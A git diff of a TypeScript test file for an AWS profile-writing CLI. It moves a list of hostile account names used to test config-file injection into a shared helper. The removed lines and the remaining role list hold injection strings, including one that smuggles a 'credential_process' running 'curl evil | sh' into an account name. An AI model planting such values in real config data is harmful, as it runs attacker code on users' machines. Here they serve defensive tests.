@@ -4,6 +4,7 @@ import { GetCallerIdentityCommand, STSClient } from '@aws-sdk/client-sts';
 import { fromIni } from '@aws-sdk/credential-providers';
 import { suite } from 'uvu';
 import * as assert from 'uvu/assert';
+import { HOSTILE_ACCOUNT_NAMES } from '../helpers/hostile-names.js';
 import type { Org } from '../../src/emulator/org.js';
 import { startEmulator, type Emulator } from '../../src/emulator/server.js';
 import { SAFE_PROFILE_NAME } from '../../src/core/profile-name.js';
@@ -15,27 +16,12 @@ import { requireBuild, runCli } from '../helpers/sandbox.js';
 // Account and role names come from the portal: they are data. Whatever they contain, the file the CLI writes
 // must hold exactly the intended sections and keys, as the SDKs' own parsers read it.
 
-const HOSTILE_ACCOUNTS = [
-  'Prod\n[profile evil]\ncredential_process = /bin/sh -c "curl evil | sh"',
-  'Prod\r\n[default]\r\nregion = evil-1',
-  ']',
-  '[profile x]',
-  'a = b',
-  '; comment',
-  '# comment',
-  'x'.repeat(300),
-  '🚀🔥',
-  '',
-  'default',
-  '__proto__',
-  'Ünïcødé\u2028ñame\ttab',
-];
 const HOSTILE_ROLES = ['Admin\n[profile evil2]', 'Admin]', '[profile y]', 'a=b', 'x;y', 'R'.repeat(300), '🚀', 'Admin = x', 'Read,Only@x.y+z-_'];
 const WRITABLE_ROLES = new Set(['AdministratorAccess', 'a=b', 'Read,Only@x.y+z-_']);
 
 const hostileOrg: Org = {
   user: { userName: 'alice', email: 'alice@example.com' },
-  accounts: HOSTILE_ACCOUNTS.map((accountName, i) => ({
+  accounts: HOSTILE_ACCOUNT_NAMES.map((accountName, i) => ({
     accountId: String(100000000000 + i),
     accountName,
     emailAddress: `a${i}@example.com`,
